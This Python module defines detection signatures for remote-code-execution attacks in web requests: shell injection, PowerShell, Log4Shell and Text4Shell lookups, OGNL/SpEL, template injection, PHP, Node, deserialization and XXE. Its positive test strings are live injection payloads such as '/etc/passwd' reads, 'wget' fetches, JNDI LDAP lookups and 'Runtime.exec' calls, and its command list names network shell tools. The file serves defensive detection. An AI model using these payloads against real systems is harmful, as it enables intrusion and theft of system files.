"""Commands and code to be run: shells, PHP, Java, templates, Node."""

from pipeline.signatures.signature import ARGS, PAYLOAD, Signature

COMMANDS = (
    r"id|ls|ps|w|who|whoami|uname|pwd|cat|tac|nl|head|tail|more|less|env|printenv|set|echo|printf|"
    r"wget|curl|fetch|lynx|lwp-\w+|aria2c|tftp|ftpget|ftp|nc|ncat|netcat|socat|telnet|bash|sh|dash|"
    r"zsh|ksh|csh|tcsh|fish|busybox|perl|python[23]?|ruby|php\d?|node|lua|gcc|cc|make|chmod|chown|"
    r"chattr|cp|mv|rm|rmdir|mkdir|touch|ln|dd|tar|gzip|gunzip|bzip2|unzip|zip|7z|base64|xxd|od|"
    r"hexdump|strings|grep|egrep|awk|gawk|sed|cut|sort|uniq|tr|tee|xargs|find|locate|which|whereis|"
    r"type|kill|pkill|killall|nohup|crontab|at|service|systemctl|mount|umount|df|du|free|top|last|"
    r"lastlog|history|ifconfig|ip|netstat|ss|route|arp|ping6?|traceroute|nslookup|dig|host|hostname|"
    r"dnsdomainname|useradd|userdel|adduser|passwd|su|sudo|ssh|scp|rsync|apt|apt-get|yum|dnf|apk|"
    r"pip3?|npm|git|docker|kubectl|mysql|psql|sqlite3|redis-cli|openssl|gpg|sleep|exit|exec|eval|"
    r"source|export|alias|unset|trap|test|expr|awk|ed|vi|vim|nano|emacs|diff|patch|file|stat|date|"
    r"uptime|groups|getent|finger|mail|sendmail|reboot|shutdown|halt|init|insmod|lsmod|dmesg|sysctl|"
    r"iptables|tcpdump|nmap|watch|timeout|time|nice|env|yes|rev|bsdtar|ansible|java|jjs|rlwrap|screen|"
    r"tmux|ash"
)

RCE = (
    Signature(
        id="rce-unix-chain",
        family="rce",
        title="A UNIX command behind a separator of the shell",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1059.004"),
        where=PAYLOAD,
        pattern=(
            r"(?:[;|`{]|&&|\|\||\$\(|<\(|>\(|\n)\s*(?:[\w$]*/(?:usr/)?(?:local/)?s?bin/)?(?:"
            + COMMANDS
            + r")(?:\s+[-/\w.'\"$~<>*|;&]|\s*[;|`)}<>]|\$ifs|\s*$|&)"
        ),
        positive=(
            "/i?ip=127.0.0.1;cat+/etc/passwd",
            "/i?x=%7Cid",
            "/i?x=$(whoami)",
            "/i?x=`id`",
            "/i?x=a%0acat%20/x",
            "/i?ip=1;c''at%20x",
            "/i?x=;cat${IFS}x",
        ),
        negative=("/i?a=b;id=3", "/i?q=cats;dogs"),
        false_positives="texts with code in them",
        references=("https://owasp.org/www-community/attacks/Command_Injection",),
    ),
    Signature(
        id="rce-unix-command",
        family="rce",
        title="A UNIX command with what it is given",
        severity="high",
        confidence="medium",
        techniques=("T1190", "T1059.004"),
        where=ARGS,
        pattern=(
            r"(?:=|^|[\s;|&(`'\"])(?:(?:/\w+)*/)?(?:cat|tac|head|tail|more|less|nl|ls|rm|chmod|cp|mv|wget|"
            r"curl|nc|ncat|bash|sh|dash|zsh|ksh|perl|python[23]?|ruby|php|touch|echo|uname|ping|find|tar|"
            r"base64|tftp|busybox) (?:-{1,2}[a-z0-9]+\b|[/~]\w*[/.]|https?://|[\w/.]*[*?]|[\w.]+\s*[|>]|\$\w)|"
            r"\b(?:wget|curl) (?:-\S+ )*(?:https?|ftp)://|\b(?:ba|z|k|da|c|a)?sh -[ci]\b|\bcat /\w+|\$shell\b|"
            r"\bnc -\w*[elp]\w*\s|/dev/(?:tcp|udp)/|\bchmod \+?[0-7x]|\brm -rf?\b|(?:^|"
            r"[\s=;/])(?:usr/)?s?bin/(?:" + COMMANDS + r")\b"
        ),
        plain=True,
        positive=("/i?x=cat+/etc/passwd", "/i?x=wget+http://x/y", "/i?x=/bin/sh+-c+id", "/i?a=bin/ansible"),
        negative=("/i?q=cat+food", "/i?q=ping+pong", "/i?q=curl+hair"),
        false_positives="questions about the shell in a search box",
    ),
    Signature(
        id="rce-unix-expansion",
        family="rce",
        title="A command or a variable put in by the shell",
        severity="high",
        confidence="medium",
        techniques=("T1190", "T1059.004"),
        where=PAYLOAD,
        pattern=(
            r"\$\([^)]|\$\{?ifs\b|<\(\s*\w+|\(\)\s*\{|`[a-z]{2,}[^`&]*`|\$\{[#!]?(?:path|home|shell|pwd|user|"
            r"hostname)\b|\$\(\(|\$\["
        ),
        positive=("/i?x=$(cmd)", "/i?x=a${IFS}b", "/i?x=()+{+:;};+id"),
        negative=("/i?price=$5", "/i?a=(b)"),
        false_positives="code in a text",
        references=("https://nvd.nist.gov/vuln/detail/CVE-2014-6271",),
    ),
    Signature(
        id="rce-unix-hidden",
        family="rce",
        title="A command or path hidden by wildcards, quotes or backslashes of the shell",
        severity="high",
        confidence="medium",
        techniques=("T1190", "T1059.004"),
        where=ARGS,
        pattern=(
            r"/\w*[?*\[][\w?*\[\]-]*/[\w?*\[\]]|/(?:e[t*?]+|b[i*?]+n?|\?{2,})[*?]*/|[a-z]\\[a-z]+\s+/|"
            r"\w''\w+\s|\w\"\"\w+\s|[a-z]\$[@*_!-]\w|[a-z]\$\$\w|\$\(\)\w|\{,?[a-z]+,[^}&]*\}|\{,[a-z]+\}"
        ),
        positive=("/i?x=cat+/et*/*wd", "/i?x=ti''me+sh", "/i?x=%7b%2c%69%64%7d"),
        negative=("/i?a=b/*", "/i?q={a:1}"),
    ),
    Signature(
        id="rce-windows",
        family="rce",
        title="A Windows command, or PowerShell",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1059.003"),
        where=("url", *PAYLOAD),
        pattern=(
            r"\bcmd(?:\.exe)?[\s+?]*/[ckr]\b|\bpowershell(?:\.exe)?\b\s*[-/\"'(]|\bpwsh\b\s*-|"
            r"\bcertutil\b.*-(?:urlcache|decode)|\bbitsadmin\b.*/transfer|\bnet1?[ +](?:user|localgroup|share|"
            r"view|group)\b|\btype\s+[a-z]:[\\/]|\bdir\s+[a-z]:[\\/]|\bwmic\s+(?:process|os|useraccount)|"
            r"\brundll32\b|\bregsvr32\b|\bmshta\b|\b(?:invoke-\w+|iex[ (]|new-object|downloadstring|"
            r"downloadfile|start-process|get-content|write-output|-encodedcommand)\b\s*[\s('\"$-]|"
            r"\bcscript\b\s|\bsysteminfo\b|\bipconfig\b|\btasklist\b|%(?:comspec|systemroot|windir|"
            r"programfiles|userprofile|appdata)(?:%|:)|(?:[;|]\s*|&& ?|& )(?:dir|ver|type|copy|del|ren|"
            r"ping)\b\s*(?:[a-z]:|/|\\|-n|$|&)"
        ),
        plain=True,
        positive=("/i?x=cmd.exe+/c+dir", "/i?x=powershell+-enc+x", "/i?x=%26+net+user", "/scripts/cmd.exe?/c+dir"),
        negative=("/i?q=cmd",),
    ),
    Signature(
        id="rce-windows-batch",
        family="rce",
        title="FOR or IF of a Windows batch",
        severity="medium",
        confidence="medium",
        techniques=("T1190", "T1059.003"),
        where=ARGS,
        pattern=(
            r"\bfor (?:/[dflr] )*.*%.*\bin\b\s*\(.*\)?\s*\bdo\b|\bfor /[dflr] |\bfor\s+%.*\bin\s*\(|"
            r"\bif (?:/i )?(?:not )?(?:exist \S+|defined \S+|errorlevel \d|cmdextversion |"
            r"\(?[\"'%\[\w]*[%\"'\]\w]*\)?\s*(?:==|\bequ\b|\bneq\b|\blss\b|\bleq\b|\bgtr\b|\bgeq\b))"
        ),
        plain=True,
        positive=("/i?x=FOR+%25a+IN+(set)+DO+abc", "/i?x=IF+EXIST+a.txt+ECHO+x", "/i?x=if+a==b+c"),
        negative=("/i?q=if+you+exist", "/i?q=for+sale+in+(london)"),
    ),
    Signature(
        id="log4shell-jndi",
        family="log4shell",
        title="A JNDI lookup for log4j",
        severity="high",
        confidence="high",
        techniques=("T1190",),
        where=PAYLOAD,
        pattern=(
            r"\$\{\s*jndi\s*:|\bjndi:(?:ldaps?|rmi|dns|iiop|corba|nds|nis|http)\b|\$\{(?:lower|upper|env|sys|"
            r"date|main|::-)[^}]*\}.{0,}\$\{|\$\{\$\{|\$\{[^}]*:-[^}]?\}"
        ),
        plain=True,
        positive=(
            "/?x=${jndi:ldap://x/a}",
            "/?x=${${lower:j}ndi:ldap://x}",
            "/?x=${${::-j}${::-n}di:rmi://x}",
            "/%24%7Bjndi:dns://x%7D",
            "/?x=${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}",
        ),
        negative=("/?x=${name}", "/docs/jndi"),
        references=("https://nvd.nist.gov/vuln/detail/CVE-2021-44228",),
    ),
    Signature(
        id="rce-text4shell",
        family="rce",
        title="A lookup of Commons Text that runs scripts or fetches",
        severity="high",
        confidence="high",
        techniques=("T1190",),
        where=PAYLOAD,
        pattern=r"\$\{\s*(?:script|url|dns|const|java|file|properties|resourcebundle|base64decoder|urldecoder)\s*:",
        positive=(
            "/?s=${script:javascript:java.lang.Runtime.getRuntime().exec('x')}",
            "/?s=$%7Burl:UTF-8:https://x%7D",
            "/?s=${dns:address|x}",
        ),
        negative=("/?s=${total:1}",),
        references=("https://nvd.nist.gov/vuln/detail/CVE-2022-42889",),
    ),
    Signature(
        id="rce-java",
        family="rce",
        title="Java, OGNL, SpEL or EL that reaches for the runtime",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1059"),
        where=PAYLOAD,
        pattern=(
            r"\bjava\.(?:lang|io|util|net|nio|beans)\.|\bjavax\.(?:script|naming|el)\.|\bgetruntime\s*\(|"
            r"\bprocessbuilder\b|\bruntime\.exec\b|\bclass\.forname\b|\bgetclass\s*\(|"
            r"\bclass\.(?:module\.)?classloader\b|#_memberaccess|\bmemberaccess\b|@ognl\.|\bognlcontext\b|"
            r"#(?:context|application|session|parameters|request)\s*\[|%\{\s*[(#]|\bxwork\.methodaccessor|"
            r"\bfreemarker\.template\b|\bt\s*\(\s*java|\borg\.(?:apache|springframework|codehaus)\.\w+\.|"
            r"\bcom\.(?:opensymphony|sun)\.\w+|\bscriptenginemanager\b|\bgroovy\.|\bclassloader\b\.|"
            r"\bwebwork\b|\bnew\s+java\."
        ),
        plain=True,
        positive=(
            "/?x=%25{(%23_memberAccess=@ognl.OgnlContext@DEFAULT)}",
            "/?x=T(java.lang.Runtime).getRuntime().exec('id')",
            "/?class.module.classLoader.resources.x=1",
            "/?q=${class.getClass()}",
        ),
        negative=("/docs/java/language", "/?q=java+lang"),
        false_positives="stack traces and class names in a search box",
        references=(
            "https://nvd.nist.gov/vuln/detail/CVE-2017-5638",
            "https://nvd.nist.gov/vuln/detail/CVE-2022-22965",
        ),
    ),
    Signature(
        id="rce-template",
        family="rce",
        title="An expression for a template engine",
        severity="high",
        confidence="medium",
        techniques=("T1190", "T1059"),
        where=PAYLOAD,
        pattern=(
            r"\{\{.*(?:[*+/'\"().\[_]|\bself\b|\bconfig\b).*\}\}|\{%\s*\w+.*%\}|<%=?[^>]*%>|"
            r"#\{[^}]*[*+(.'\"][^}]*\}|\$\{[^}]*(?:[*+(]|\d\s*-\s*\d)[^}]*\}|@\([^)]*[*+/-][^)]*\)|\{php\}|"
            r"\{\$smarty|\{\{=|\[\[\$\{|\*\{[^}]*\}|~\[.*\]~|__\$\{|#set\s*\(\s*\$|<#assign|\{if\s|\[#assign"
        ),
        positive=("/?x={{7*7}}", "/?x=${7*7}", "/?x=<%25=7*7%25>", "/?x=%23{7*7}", "/?x={{config.items()}}"),
        negative=("/?x={{name}}", "/?x=${name}", "/?x=#top"),
        false_positives="campaign links whose placeholders were not filled in",
        references=("https://portswigger.net/web-security/server-side-template-injection",),
    ),
    Signature(
        id="rce-php",
        family="rce",
        title="PHP code",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1059"),
        where=PAYLOAD,
        pattern=r"<\?(?:php\b|=|\s|xml\s*:)|\{/?php\}|\[/?php\]|<script\s+language\s*=\s*[\"']?php",
        positive=("/?x=<?php+system('id');?>", "/?x=<?=1", "/?x={php}echo+1", "/?x=%3C%3F%0Aphp%20echo"),
        negative=("/?x=<?xml+version='1.0'?>", "/?x=<?xsl-stylesheet?>"),
    ),
    Signature(
        id="rce-php-function",
        family="rce",
        title="A PHP function that runs, reads or tells",
        severity="high",
        confidence="medium",
        techniques=("T1190", "T1059"),
        where=ARGS,
        pattern=(
            r"(?:^|[^a-z])(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|phpinfo|"
            r"phpversion|php_uname|preg_replace|create_function|call_user_func(?:_array)?|array_map|"
            r"array_filter|usort|file_get_contents|file_put_contents|readfile|fopen|fread|fwrite|fputs|"
            r"fsockopen|include(?:_once)?|require(?:_once)?|unlink|chmod|chr|base64_decode|gzinflate|gzdecode|"
            r"gzuncompress|str_rot13|hex2bin|unserialize|serialize|var_dump|print_r|print|die|md5|sha1|getenv|"
            r"ini_set|ini_get|putenv|dl|mail|curl_exec|curl_init|show_source|highlight_file|scandir|glob|"
            r"opendir|touch|symlink|rename|move_uploaded_file|parse_str|extract|posix_\w+|ob_start|"
            r"register_shutdown_function|set_time_limit|error_reporting|func_get_args|debug_backtrace|is_\w+|"
            r"str_\w+|tidy_\w+|mb_\w+|array_\w+|date_add|date_\w+|simplexml_\w+|session_\w+|iconv|sleep|"
            r"usleep|define|constant|implode|explode|strrev|ucfirst|strip_tags|sprintf|substr|strlen|strpos|"
            r"ord)(?:\s|/\*.*\*/|(?:#|//)[^\n]*\n)*\(|foofsockopen|fsockopen\s*\(|gz(?:decode|inflate)\s*\("
        ),
        positive=(
            "/?x=phpinfo()",
            "/?x=system('id')",
            "/?x=base64_decode(",
            "/?x=eval(chr(112).chr(104))",
            "/?x=exec%20%09%20%23%0a%20()",
        ),
        negative=("/?q=systems()",),
        false_positives="code in a text; a name followed by parentheses",
    ),
    Signature(
        id="rce-php-variable",
        family="rce",
        title="A PHP variable, a setting or a call by name",
        severity="high",
        confidence="medium",
        techniques=("T1190", "T1059"),
        where=ARGS,
        pattern=(
            r"\$_(?:get|post|request|cookie|server|files|session|env)\b|\$globals\b|\bhttp_(?:raw_post_data|"
            r"cookie_vars|get_vars|post_vars|server_vars)\b|_(?:request|globals|server|session|cookie)\[|"
            r"\$\{?\s*\{?\$?\w+\}?\s*\(|\$\s*\{\s*['\"$\w]|(?:^|[\s&=;?])(?:allow_url_(?:include|fopen)|"
            r"auto_(?:prepend|append)_file|disable_functions|open_basedir|extension_dir|memory_limit|"
            r"safe_mode|suhosin\.\w+|cgi\.(?:force_redirect|redirect_status_env)|error_log|include_path|"
            r"upload_tmp_dir|zend\.\w+|assert\.\w+)\s*="
        ),
        plain=True,
        positive=(
            "/?x=$_GET[1]",
            "/?-d+allow_url_include=on",
            "/?x=${$a}",
            "/?x=memory_limit+=+512M",
            "/?%24_COOKIE=value",
        ),
        negative=("/?price=$20", "/?x=a_get"),
    ),
    Signature(
        id="rce-php-disguised",
        family="rce",
        title="A PHP call whose function is put together or in parentheses",
        severity="high",
        confidence="medium",
        techniques=("T1190", "T1059"),
        where=ARGS,
        pattern=(
            r"[\w'\")\]}]\s*[\])]\s*(?:\[\s*\w*\s*\]\s*)*\(\s*['\"@\w(][^)]*\)\s*(?:;|\.|$|&)|"
            r"\(\s*string\s*\)\s*['\"]|['\"]\s*\(\s*[\w'\"@]*\s*\)\s*(?:;|\.)|"
            r"['\"]\s*\.\s*['\"][^'\"]*['\"]\s*\(|\(\s*\w+\s*\.\s*\(\s*\w+"
        ),
        positive=(
            "/?x=(system)('uname');",
            "/?x=(string)\"system\"('uname');",
            "/?x=[system][0](ls);",
            "/?x=(sy.(st).em)('uname');",
        ),
        negative=("/?q=(a)(b)+c", "/?q=f(x)"),
    ),
    Signature(
        id="rce-node",
        family="rce",
        title="JavaScript for a server",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1059.007"),
        where=PAYLOAD,
        pattern=(
            r"\brequire\s*\(\s*['\"]?(?:child_process|fs|os|net|http|vm)|\brequire\.main\b|\bchild_process\b|"
            r"\bprocess\s*(?:\.|\[['\"])\s*(?:mainmodule|binding|env|exit|kill|argv|dlopen|stdout)|"
            r"\bthis\.constructor\b|\bconstructor\s*\.\s*(?:constructor|_load|prototype)|"
            r"\[['\"]constructor['\"]\]|\bnew\s+function\s*\(|\bglobal(?:this)?\.process\b|"
            r"\bnode:(?:child_process|fs|vm)|_\$\$nd_func\$\$_|\breaddirsync\b|\bexecsync\b|\bspawnsync\b|"
            r"\b__defin(?:es|eg)etter__|\bresolved_model\b|:constructor\b|\b(?:while|for)\s*\(\s*!?\s*(?:true|"
            r"1|[+-]?\d|!|;;|-?infinity|null|undefined|nan|\[|\{|['\"])[^&]*\)"
        ),
        plain=True,
        positive=(
            "/?x=require('child_process').exec('id')",
            "/?x=process.mainModule.require",
            "/?x=this.constructor.constructor",
            "/?x=process[%22env%22]",
            "/?x=while(true);",
        ),
        negative=("/?x=process+environment", "/?q=required+process"),
    ),
    Signature(
        id="rce-perl-ruby",
        family="rce",
        title="Perl or Ruby put into a string",
        severity="high",
        confidence="medium",
        techniques=("T1190", "T1059"),
        where=ARGS,
        pattern=(
            r"@\{\s*\[.*\]|\bprocess\.(?:spawn|clock_gettime)\b|\bkernel\.(?:exec|system|open|spawn)\b|"
            r"#\{[^}]*\b(?:system|exec|spawn|open|file|io|eval|`)|%x[({\[]|\bio\.popen\b|\berb\.new\b|"
            r"\bsend\s*\(\s*:|\buse\s+lib\b|\b__import__\s*\(|\bos\.(?:system|popen)\s*\(|\bsubprocess\.|"
            r"\b__(?:class|globals|builtins|subclasses|mro|bases|init)__\b|\bimport\s+os\b"
        ),
        positive=(
            "/?x=@{[system+'id']}",
            "/?x=%23{system('id')}",
            "/?x=__import__('os').system('id')",
            "/?x={{''.__class__.__mro__}}",
        ),
        negative=("/?email=user@example.com",),
    ),
    Signature(
        id="prototype-pollution",
        family="prototype",
        title="An assignment to the prototype of all objects",
        severity="high",
        confidence="high",
        techniques=("T1190",),
        where=ARGS,
        pattern=r"__proto__|\bconstructor\s*\]?\s*(?:\.|\[['\"]?)\s*prototype",
        plain=True,
        positive=("/?__proto__[x]=1", "/?constructor.prototype.x=1", "/?a[constructor][prototype][x]=1"),
        negative=("/?proto=1",),
    ),
    Signature(
        id="deserialization-object",
        family="deserialization",
        title="A serialised object",
        severity="high",
        confidence="high",
        techniques=("T1190",),
        where=PAYLOAD,
        pattern=(
            r"\b[oc]:\d+:\"[\w\\]+\":\d+:\{|\bro0ab[a-z0-9+/]|\baced0005|\baaeaaad/|\byso(?:serial)?\b|"
            r"!!python/|!!java|\bgadget\b.*\bchain\b|\btyped?:\s*system\.|\"\$type\"\s*:|\"@type\"\s*:"
        ),
        plain=True,
        positive=("/?x=O:8:%22stdClass%22:0:{}", "/?x=rO0ABXNyABFqYXZh"),
        negative=("/?x=o:1",),
    ),
    Signature(
        id="xxe-entity",
        family="xxe",
        title="An XML entity or document type that reads files",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1083"),
        where=PAYLOAD,
        pattern=(
            r"<!entity\b|<!doctype\b[^>]*(?:\[|\bsystem\b|\bpublic\b)|\bxinclude\b|<xi:include\b|"
            r"<!\[cdata\[.*<"
        ),
        positive=("/?x=<!DOCTYPE+a+[<!ENTITY+b+SYSTEM+'file:///x'>]>",),
        negative=("/?x=<!doctype+html>",),
        references=("https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing",),
    ),
)
